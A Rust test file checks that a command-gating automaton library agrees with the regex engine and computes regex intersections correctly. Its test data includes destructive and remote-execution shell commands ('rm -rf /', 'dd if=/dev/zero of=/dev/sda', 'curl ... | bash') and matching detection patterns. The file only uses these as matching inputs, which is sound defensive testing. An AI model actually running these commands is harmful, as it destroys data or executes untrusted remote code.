//! Automaton library checked against the regex engine

use regex::Regex;

use cmdgate::automaton::{compile, intersect, Intersection};

const PATTERNS: &[&str] = &[
    r"^git (pull|fetch|status)",
    r"^rm -rf",
    r"^sudo",
    r"^ls|^pwd|^echo",
    r"git",
    r"^git .*",
    r"^sudo apt update$",
    r"^dd .*of=/dev/[a-z]+",
    r"^(make|cargo) (build|test)( --release)?$",
    r"^[a-z]+ -[a-zA-Z]{1,3} /tmp/\S+$",
    r"\d{2,4}",
    r"^docker (run|exec)\s+-it?\s",
    r"^python3?\s+\w+\.py$",
    r"curl.*\|\s*(ba)?sh",
    r"^[^;&|]*$",
    r"^\s*$",
    r"^é.$",
    r"(?:ab|cd)+?x",
];

const COMMANDS: &[&str] = &[
    "",
    "git",
    "git ",
    "git pull origin main",
    "git push",
    "legit",
    "rm -rf /",
    "rm -r -f /",
    "sudo apt update",
    "sudo apt update && reboot",
    "ls -la",
    "pwd",
    "echo hello",
    "dd if=/dev/zero of=/dev/sda",
    "make build",
    "cargo test --release",
    "cargo test --release now",
    "tar -xzf /tmp/a.tgz",
    "tar -xzvf /tmp/a.tgz",
    "sleep 120",
    "docker run -it ubuntu",
    "docker exec -i db psql",
    "python script.py",
    "python3 my_job.py",
    "curl -s https://x.sh | bash",
    "curl https://x.sh |sh",
    "ls; rm x",
    "   ",
    "éa",
    "éab",
    "ababx",
    "cdx",
    "ñandú",
];

#[test]
fn test_automaton_agrees_with_regex() {
    for pattern in PATTERNS {
        let regex = Regex::new(pattern).unwrap();
        let nfa = compile(pattern).unwrap();
        for command in COMMANDS {
            assert_eq!(
                nfa.is_match(command),
                regex.is_match(command),
                "pattern {:?} on {:?}",
                pattern,
                command
            );
        }
    }
}

#[test]
fn test_witnesses_match_both_patterns() {
    for a in PATTERNS {
        for b in PATTERNS {
            let (na, nb) = (compile(a).unwrap(), compile(b).unwrap());
            match intersect(&na, &nb, 1_000_000) {
                Intersection::NonEmpty { witness } => {
                    let (ra, rb) = (Regex::new(a).unwrap(), Regex::new(b).unwrap());
                    assert!(ra.is_match(&witness), "{:?} !~ {:?}", witness, a);
                    assert!(rb.is_match(&witness), "{:?} !~ {:?}", witness, b);
                }
                Intersection::Empty => {
                    for command in COMMANDS {
                        let both = Regex::new(a).unwrap().is_match(command)
                            && Regex::new(b).unwrap().is_match(command);
                        assert!(!both, "{:?} and {:?} both match {:?}", a, b, command);
                    }
                }
                Intersection::BudgetExceeded { .. } => panic!("budget exceeded for {} / {}", a, b),
            }
        }
    }
}

#[test]
fn test_intersection_is_symmetric() {
    for a in PATTERNS {
        for b in PATTERNS {
            let (na, nb) = (compile(a).unwrap(), compile(b).unwrap());
            assert_eq!(
                intersect(&na, &nb, 1_000_000).is_empty(),
                intersect(&nb, &na, 1_000_000).is_empty(),
                "{} / {}",
                a,
                b
            );
        }
    }
}

#[test]
fn test_known_disjoint_pairs() {
    let pairs = [
        (r"^git (pull|fetch|status)", r"^rm -rf"),
        (r"^ls$", r"^ls -la$"),
        (r"^\s*$", r"^sudo"),
        (r"^[^;&|]*$", r"curl.*\|\s*(ba)?sh"),
    ];
    for (a, b) in pairs {
        let result = intersect(&compile(a).unwrap(), &compile(b).unwrap(), 1_000_000);
        assert_eq!(result, Intersection::Empty, "{} / {}", a, b);
    }
}
